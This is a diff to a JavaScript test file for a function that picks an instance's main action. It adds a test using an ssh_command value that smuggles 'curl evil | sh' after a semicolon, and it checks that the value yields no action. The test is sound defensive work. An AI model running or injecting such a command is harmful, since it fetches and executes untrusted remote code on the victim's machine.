@@ -37,3 +37,7 @@ test('what is on its way can be told of, and what is deleted be created again', 
 test('what cannot be reached has no main action', () => {
   expect(mainAction(anInstance({ ssh_command: null, wan_ssh_port: null }))).toBeNull()
 })
+
+test('a command that is not understood is copied only where it is read', () => {
+  expect(mainAction(anInstance({ ssh_command: 'ssh root@1.2.3.4; curl evil | sh' }))).toBeNull()
+})
